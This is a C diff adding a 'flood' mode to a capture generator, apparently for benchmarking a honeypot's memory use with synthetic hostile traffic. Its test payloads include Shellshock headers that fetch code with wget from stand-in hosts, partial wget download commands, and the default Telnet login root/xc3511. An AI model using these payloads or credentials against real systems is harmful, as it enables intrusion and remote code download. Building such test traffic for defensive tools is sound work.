@@ -183,3 +183,134 @@ int hs_gencap_bench(int argc, char **argv)
     }
     return pw_close(&b.w) ? 0 : 2;
 }
+
+/* ---- "hs-gencap flood": hostile captures for the memory bench ---- */
+
+/* A TCP conversation being written: its endpoints and sequence numbers. */
+typedef struct {
+    bench_t *b;
+    pw_endpoint_t cli, srv;
+    uint32_t cs, ss;
+} flow_t;
+
+/* Starts conversation number n; with handshake, SYN, SYN+ACK and ACK first. */
+static void flow_open(flow_t *f, bench_t *b, unsigned n, uint16_t port, bool handshake)
+{
+    static const uint8_t mss[] = {2, 4, 0x05, 0xb4};
+    pw_shape_t shape = {.opts = mss, .opts_len = sizeof(mss), .df = true};
+    *f = (flow_t){.b = b, .srv = {.v6 = false, .addr = {203, 0, 113, 10}, .port = port}};
+    f->cli.addr[0] = 31, f->cli.addr[1] = (uint8_t)(n >> 16), f->cli.addr[2] = (uint8_t)(n >> 8);
+    f->cli.addr[3] = (uint8_t)n;
+    f->cli.port = (uint16_t)(1024 + n % 60000);
+    f->cs = rnd(&b->r), f->ss = rnd(&b->r);
+    if (!handshake)
+        return;
+    pw_tcp(&b->w, tick(b), &f->cli, &f->srv, PW_SYN, f->cs++, 0, &shape, NULL, 0);
+    pw_tcp(&b->w, tick(b), &f->srv, &f->cli, PW_SYN | PW_ACK, f->ss++, f->cs, &shape, NULL, 0);
+    pw_tcp(&b->w, tick(b), &f->cli, &f->srv, PW_ACK, f->cs, f->ss, NULL, NULL, 0);
+}
+
+/* Client data, cut into segments of at most 1400 bytes. */
+static void flow_send(flow_t *f, const char *d, size_t n)
+{
+    for (size_t off = 0; off < n;) {
+        size_t k = n - off > 1400 ? 1400 : n - off;
+        pw_tcp(&f->b->w, tick(f->b), &f->cli, &f->srv, PW_PSH | PW_ACK, f->cs, f->ss, NULL,
+               (const uint8_t *)d + off, k);
+        f->cs += (uint32_t)k;
+        off += k;
+    }
+}
+
+static void flow_close(flow_t *f)
+{
+    bench_t *b = f->b;
+    pw_tcp(&b->w, tick(b), &f->cli, &f->srv, PW_FIN | PW_ACK, f->cs++, f->ss, NULL, NULL, 0);
+    pw_tcp(&b->w, tick(b), &f->srv, &f->cli, PW_FIN | PW_ACK, f->ss++, f->cs, NULL, NULL, 0);
+    pw_tcp(&b->w, tick(b), &f->cli, &f->srv, PW_ACK, f->cs, f->ss, NULL, NULL, 0);
+}
+
+static long file_size(const bench_t *b)
+{
+    fflush(b->w.f);
+    return ftell(b->w.f);
+}
+
+/* One session on a silent honeypot: a login, then one-letter lines, 466
+ * to a full segment, until the capture holds `bytes`. */
+static void flood_telnet_lines(bench_t *b, long bytes)
+{
+    flow_t f;
+    flow_open(&f, b, 1, 23, true);
+    flow_send(&f, "root\r\n", 6);
+    flow_send(&f, "xc3511\r\n", 8);
+    char seg[1398];
+    for (size_t i = 0; i + 3 <= sizeof(seg); i += 3)
+        memcpy(seg + i, "a\r\n", 3);
+    while (file_size(b) < bytes)
+        flow_send(&f, seg, sizeof(seg));
+    flow_close(&f);
+}
+
+/* Tens of thousands of Telnet conversations, each one segment that leaves
+ * a partial line (no handshake: the least the attacker has to send). */
+static void flood_telnet_partial(bench_t *b, long bytes)
+{
+    static const char part[] = "wget http://198.51.100.9/x";
+    for (unsigned n = 1; file_size(b) < bytes; n++) {
+        flow_t f;
+        flow_open(&f, b, n, 23, false);
+        flow_send(&f, part, sizeof(part) - 1);
+    }
+}
+
+/* HTTP requests with `headers` header lines each, every one a Shellshock
+ * payload, one request per conversation. */
+static void flood_http(bench_t *b, long bytes, unsigned headers)
+{
+    size_t cap = 64 + (size_t)headers * 48, len;
+    char *req = malloc(cap);
+    if (!req)
+        exit(2);
+    for (unsigned n = 1; file_size(b) < bytes; n++) {
+        len = (size_t)snprintf(req, cap, "GET /cgi-bin/%u HTTP/1.1\r\nHost: 203.0.113.10\r\n", n);
+        for (unsigned h = 0; h < headers; h++)
+            len += (size_t)snprintf(req + len, cap - len, "X-H%u: () { :;}; wget http://e.x/%u\r\n",
+                                    h, h);
+        len += (size_t)snprintf(req + len, cap - len, "\r\n");
+        flow_t f;
+        flow_open(&f, b, n, 80, true);
+        flow_send(&f, req, len);
+        flow_close(&f);
+    }
+    free(req);
+}
+
+int hs_gencap_flood(int argc, char **argv)
+{
+    if (argc != 4) {
+        fprintf(stderr, "usage: hs-gencap flood telnet-lines|telnet-partial|http-headers|"
+                        "http-payloads BYTES OUT.pcap\n");
+        return 2;
+    }
+    const char *kind = argv[1];
+    long bytes = strtol(argv[2], NULL, 10);
+    bench_t b = {.r = {0x9e3779b97f4a7c15ull}, .t = 1411603200.0};
+    if (!pw_open(&b.w, argv[3])) {
+        perror(argv[3]);
+        return 2;
+    }
+    if (strcmp(kind, "telnet-lines") == 0)
+        flood_telnet_lines(&b, bytes);
+    else if (strcmp(kind, "telnet-partial") == 0)
+        flood_telnet_partial(&b, bytes);
+    else if (strcmp(kind, "http-headers") == 0)
+        flood_http(&b, bytes, 3000);
+    else if (strcmp(kind, "http-payloads") == 0)
+        flood_http(&b, bytes, 20);
+    else {
+        fprintf(stderr, "hs-gencap flood: unknown kind '%s'\n", kind);
+        return 2;
+    }
+    return pw_close(&b.w) ? 0 : 2;
+}
